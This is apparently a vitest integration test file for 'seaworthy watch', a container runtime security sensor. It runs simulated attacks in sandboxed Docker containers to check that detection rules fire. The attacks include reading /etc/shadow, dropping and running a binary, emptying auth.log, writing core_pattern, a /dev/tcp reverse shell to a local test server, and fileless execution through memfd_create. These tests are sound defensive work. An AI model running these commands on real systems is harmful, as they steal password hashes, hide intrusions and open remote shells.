// `seaworthy watch` on a real machine: real containers under the real sensor, rules and record.
import { execFile, execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type NamingLab, namingLabMissing, openNamingLab, until } from '../naming-lab.ts';
import { hasOptionalTool } from '../registry-process.ts';
import { hasSensor, sensorReason } from '../sensor-watch.ts';
import { loadShellImage, type RunningWatch, startWatching } from '../watch-lab.ts';
import { seaworthy } from './run.ts';

const run = promisify(execFile);
const rulesFolder = fileURLToPath(new URL('../../rules', import.meta.url));
const missing = sensorReason || (namingLabMissing === '' ? '' : ` (needs ${namingLabMissing})`);
const hasPython = hasOptionalTool('/usr/bin/python3', '--version');
const hasScript = hasOptionalTool('script', '--version');

// Needs root, libbpf, BTF and a Docker engine; what is missing stands in the title.
describe.skipIf(!hasSensor || namingLabMissing !== '')(`watch${missing}`, () => {
  let lab: NamingLab;
  let shell: string;
  let data: string;
  let watch: RunningWatch;
  let watchedSince: string;

  beforeAll(async () => {
    lab = openNamingLab('watch');
    shell = `${lab.prefix}-shell:1`;
    data = join(lab.folder, 'data');
    loadShellImage(lab.folder, shell);
    await lab.docker(...inContainer(`${lab.prefix}-before`, 'none', ['-d']), 'exec /bin/sleep 600');
    watchedSince = new Date().toISOString();
    watch = await startWatching(['--data', data, '--no-inventory']);
  }, 60_000);

  afterAll(async () => {
    watch.child.kill('SIGKILL');
    lab.close();
    execFileSync('/usr/bin/docker', ['rmi', '-f', shell], { stdio: 'ignore' });
  });

  const ask = async (...words: readonly string[]) => {
    const { stdout } = await seaworthy([...words, '--data', data, '--format', 'json']);
    return JSON.parse(stdout);
  };
  const detected = (rule: string, name: string) =>
    watch.find((line) => {
      const container = line['container'] as { readonly name: string } | null | undefined;
      return line.kind === 'detection' && line['rule'] === rule && container?.name === name;
    });
  const over = (name: string) =>
    watch.find(
      (line) => line.kind === 'container' && line['name'] === name && line['action'] === 'ended',
    );
  const inContainer = (name: string, network: string, options: readonly string[]) => {
    const about = ['--rm', '--name', name, '--network', network];
    return ['run', ...about, ...options, shell, '/bin/bash', '-c'];
  };
  const inShell = (name: string, script: string, ...options: readonly string[]) =>
    lab.docker(...inContainer(name, 'none', options), script);

  test('everything is seen here', () => {
    expect(watch.stderr()).toContain('watching processes, files, connections, containers');
  });

  test('a container of before has its name, its image and the time when it really began', async () => {
    const name = `${lab.prefix}-before`;
    const startedAt = await lab.docker('inspect', '--format', '{{.State.StartedAt}}', name);
    await until(async () => (await ask('containers', '--name', name)).length === 1);
    const [found] = await ask('containers', '--name', name);
    expect(found).toMatchObject({
      name,
      image: { reference: shell },
      namedBeforeStart: false,
      running: true,
    });
    // Its process is older than its engine's word, by what the engine needs to say it.
    const before = Date.parse(startedAt) - Date.parse(found.startedAt);
    expect(before).toBeGreaterThan(-1000);
    expect(before).toBeLessThan(60_000);
    expect(Date.parse(found.startedAt)).toBeLessThan(Date.parse(watchedSince));
    const [gap] = (await ask('timeline', name)).losses;
    expect(gap).toMatchObject({ why: 'it began before anything was recorded here' });
    expect(gap.from).toBe(found.firstSeen);
    await lab.docker('rm', '-f', name);
    await over(name);
  });

  test('a container that lives for a blink is named before its start and kept', async () => {
    const name = `${lab.prefix}-blink`;
    await lab
      .docker('run', '--name', name, '--network', 'none', lab.reference, '/bin/seven')
      .catch(() => undefined);
    const ended = await over(name);
    expect(ended).toMatchObject({ exitCode: 7, namedBeforeStart: true });
    await until(async () => (await ask('containers', '--name', name)).length === 1);
    const [found] = await ask('containers', '--name', name);
    expect(found).toMatchObject({
      name,
      image: { id: lab.imageId },
      namedBeforeStart: true,
      exitCode: 7,
      running: false,
    });
    expect(Date.parse(found.endedAt)).toBeGreaterThanOrEqual(Date.parse(found.startedAt));
    await lab.docker('rm', '-f', name);
  });

  test('an intruder: hashes read, a program dropped and started; the timeline tells it', async () => {
    const name = `${lab.prefix}-drift`;
    await inShell(
      name,
      'cat /etc/shadow; cp /bin/true /tmp/dropped; chmod 755 /tmp/dropped; /tmp/dropped; echo x > /etc/evil; true',
    );
    await detected('Password hashes read in a container', name);
    const drift = await detected('Program that is not of the image started', name);
    expect(drift).toMatchObject({
      priority: 'Critical',
      source: 'syscall',
      chain: expect.stringMatching(/^docker run -> bash/),
      output_fields: { 'container.name': name, 'proc.exepath': '/tmp/dropped' },
    });
    expect(drift['output']).toContain(name);
    await over(name);
    await until(async () => (await ask('timeline', name)).detections.length >= 2);
    const told = await ask('timeline', name);
    // What was proposed is kept, and loads as a file of rules.
    expect(drift['exception']).toContain('Program that is not of the image started');
    const { stdout: exceptions } = await seaworthy([
      'timeline',
      name,
      '--data',
      data,
      '--format',
      'exceptions',
    ]);
    expect(exceptions).toContain(drift['exception']);
    const [root] = told.processes;
    expect(root.programs[0].arguments.slice(0, 2)).toEqual(['/bin/bash', '-c']);
    const below = root.children.flatMap(
      (child: { programs: { path: string }[] }) => child.programs,
    );
    const dropped = below.find(({ path }: { path: string }) => path === '/tmp/dropped');
    expect(dropped).toMatchObject({ fromOwnLayer: true });
    expect(JSON.stringify(told.files)).toContain('/etc/evil');
    expect(told.container).toMatchObject({ exitCode: 0 });
  });

  test.skipIf(!hasScript)(
    `a person in a running container${hasScript ? '' : ' (needs script)'}`,
    async () => {
      const name = `${lab.prefix}-person`;
      await lab.docker(
        'run',
        '-d',
        '--rm',
        '--name',
        name,
        '--network',
        'none',
        shell,
        '/bin/sleep',
        '60',
      );
      await run('script', [
        '-qc',
        `/usr/bin/docker exec -t ${name} /bin/bash -c true`,
        '/dev/null',
      ]);
      const { chain } = await detected('Shell with a terminal attached to a container', name);
      expect(chain).toBe('docker exec -> bash');
      await lab.docker('rm', '-f', name);
    },
  );

  test('attacks: each alert is explained and replayed by itself, its exception silences it', async () => {
    const attacks = [
      ['Log file emptied', ': > /var/log/auth.log; true', '--tmpfs', '/var/log'],
      ['Interactive shell without a terminal', 'echo true | sh -i; true'],
      ['Kernel helper program set from a container', ': >> /proc/sys/kernel/core_pattern; true'],
      [
        'Root folder of a process entered through proc',
        'cat /proc/1/root/x; true',
        '--pid',
        'host',
      ],
    ] as const;
    const exceptions = join(lab.folder, 'exceptions');
    mkdirSync(exceptions);
    const alerts: string[] = [];
    for (const [index, [rule, script, ...options]] of attacks.entries()) {
      const name = `${lab.prefix}-attack-${index}`;
      await inShell(name, script, ...options);
      const line = await detected(rule, name);
      writeFileSync(join(exceptions, `${index}.yaml`), String(line['exception']));
      alerts.push(JSON.stringify(line));
      // Among the processes of the host nothing tells who came first.
      expect(line['chain']).toMatch(
        options.some((option) => option === 'host') ? /^docker -> bash/ : /^docker run -> bash/,
      );
    }
    const file = join(lab.folder, 'alerts.jsonl');
    writeFileSync(file, alerts.join('\n'));
    const replayed = async (...words: readonly string[]) => {
      const { stdout } = await seaworthy(['replay', file, '--format', 'json', ...words]);
      return JSON.parse(stdout).detections.map((one: { readonly rule: string }) => one.rule);
    };
    const names = attacks.map(([rule]) => rule);
    expect(await replayed()).toEqual(expect.arrayContaining(names));
    expect(await replayed('--rules', rulesFolder, '--rules', exceptions)).not.toEqual(
      expect.arrayContaining([expect.stringMatching(new RegExp(`^(?:${names.join('|')})$`))]),
    );
    writeFileSync(file, alerts[0] ?? '');
    const words = ['rules', 'explain', names[0] ?? '', '--event', file];
    expect((await seaworthy(words)).stdout).toContain('The event matches.');
  }, 120_000);

  test('a shell on a connection, and the flow with its bytes', async () => {
    const name = `${lab.prefix}-reverse`;
    const server = createServer((socket) => {
      socket.on('data', () => undefined);
      socket.end('echo four\n');
    }).listen(0, '127.0.0.1');
    await until(() => server.listening);
    const { port } = server.address() as { readonly port: number };
    await lab.docker(
      ...inContainer(name, 'host', []),
      `exec 3<>/dev/tcp/127.0.0.1/${port}; /bin/sh <&3 >&3; true`,
    );
    server.close();
    const { output_fields: fields } = await detected('Shell started on a network connection', name);
    expect((fields as Record<string, string>)['proc.stdin.name']).toContain(`->127.0.0.1:${port}`);
    await over(name);
    await until(async () => (await ask('timeline', name)).flows.length > 0);
    const { flows } = await ask('timeline', name);
    expect(JSON.stringify(flows)).toContain(`${port}`);
    // `echo four` came in, `four` went out.
    expect(JSON.stringify(flows)).toMatch(/"(?:received|bytesReceived)":10/);
    expect(JSON.stringify(flows)).toMatch(/"(?:sent|bytesSent)":5/);
  });

  test.skipIf(!hasPython)(
    `a program without a file${hasPython ? '' : ' (needs python3)'}`,
    async () => {
      const source = `import os
fd = os.memfd_create("x")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["ghost"], {})`;
      await run('/usr/bin/python3', ['-c', source]);
      const found = await watch.find(
        (line) => line.kind === 'detection' && line['rule'] === 'Program started from memory',
      );
      expect(found).toMatchObject({ container: null });
    },
  );

  test('a container among the processes of the host is a container all the same', async () => {
    const name = `${lab.prefix}-pids`;
    await inShell(name, 'cat /etc/shadow; exit 4', '--pid', 'host').catch(() => undefined);
    expect(await over(name)).toMatchObject({ exitCode: 4, namedBeforeStart: true });
    await detected('Password hashes read in a container', name);
  });

  test('what a policy did stands in the timeline, and is taken back from there', async () => {
    const name = `${lab.prefix}-answered`;
    const policy = join(lab.folder, 'response.yaml');
    writeFileSync(
      policy,
      `apiVersion: seaworthy.dev/v1
kind: ResponsePolicy
mode: enforce
rules:
  - name: hashes
    match: { rules: ["Password hashes read in a container"], containers: ["${name}"] }
    actions: [pause]
`,
    );
    const own = join(lab.folder, 'answered');
    const other = await startWatching(['--data', own, '--no-inventory', '--response', policy]);
    const responses = async () => {
      const { stdout } = await seaworthy(['timeline', name, '--data', own, '--format', 'json']);
      return stdout === '' ? [] : JSON.parse(stdout).responses;
    };
    try {
      await lab.docker(
        ...inContainer(name, 'none', ['-d']),
        'cat /etc/shadow; exec /bin/sleep 600',
      );
      await until(async () => (await responses()).length > 0);
      const [done] = await responses();
      expect(done).toMatchObject({
        action: 'pause',
        state: 'done',
        because: 'Password hashes read in a container',
        undo: `seaworthy respond undo ${done.id}`,
      });
      await seaworthy(['respond', 'undo', done.id, '--data', own]);
      await until(async () => (await responses()).length === 2);
      expect(await responses()).toMatchObject([
        { state: 'done', undo: null },
        { state: 'undone', undo: null },
      ]);
    } finally {
      await other.stop();
      await lab.docker('rm', '-f', name);
    }
  }, 120_000);

  test('killed in a storm: what nobody saw is a gap with its bounds', async () => {
    const name = `${lab.prefix}-storm`;
    await lab.docker(
      ...inContainer(name, 'none', ['-d']),
      'for ((i = 0; i < 3000; i++)); do /bin/true; done; /bin/sleep 100',
    );
    await until(() =>
      watch.lines.some((line) => line['name'] === name && line['action'] === 'started'),
    );
    // What was taken in the last 200 ms may be gone with it: the container itself must not be.
    await until(async () => (await ask('containers', '--name', name)).length === 1);
    const exited = new Promise((resolve) => watch.child.once('exit', resolve));
    watch.child.kill('SIGKILL');
    await exited;
    const before = Date.now();
    watch = await startWatching(['--data', data, '--no-inventory']);
    await until(async () => (await ask('timeline', name)).losses.length > 0);
    const { losses, processes } = await ask('timeline', name);
    const gap = losses.find(({ what }: { what: string }) => what === 'all');
    expect(Date.parse(gap.from)).toBeLessThanOrEqual(before);
    expect(Date.parse(gap.to)).toBeGreaterThanOrEqual(before);
    expect(processes.length).toBeGreaterThan(0);
    // It lived on: nobody may tell that it ended with the one who watched it.
    expect(
      watch.lines.filter((line) => line['action'] === 'ended' && line['name'] === name),
    ).toEqual([]);
    await lab.docker('rm', '-f', name);
  }, 120_000);

  test('Ctrl-C ends it cleanly: no gap for the next', async () => {
    expect(await watch.stop()).toBe(0);
    watch = await startWatching(['--data', data, '--no-record']);
    expect(watch.stderr()).toContain('not recorded');
  });

  test('a broken rule file changes nothing but a line', async () => {
    const rules = join(lab.folder, 'rules.yaml');
    const rule = (condition: string) => `
- rule: Probe
  desc: a probe of this test
  condition: ${condition}
  output: probe %proc.name
  priority: NOTICE
`;
    const probes = (other: RunningWatch) =>
      other.lines.filter((line) => line['rule'] === 'Probe').length;
    writeFileSync(rules, rule('evt.type = execve and proc.cmdline contains seaworthy-probe-1'));
    const other = await startWatching(['--no-record', '--rules', rules]);
    try {
      writeFileSync(rules, rule('evt.type = = execve'));
      await until(() => other.stderr().includes('the rules stay as they were'));
      await run('/bin/cat', ['seaworthy-probe-1']).catch(() => undefined);
      await until(() => probes(other) === 1);
      writeFileSync(rules, rule('evt.type = execve and proc.cmdline contains seaworthy-probe-2'));
      await until(() => other.stderr().includes('the rules were read again'));
      await run('/bin/cat', ['seaworthy-probe-2']).catch(() => undefined);
      await until(() => probes(other) === 2);
    } finally {
      await other.stop();
    }
    const refused = await seaworthy(['watch', '--rules', join(lab.folder, 'none.yaml')]);
    expect(refused).toMatchObject({ code: 3 });
  });
});
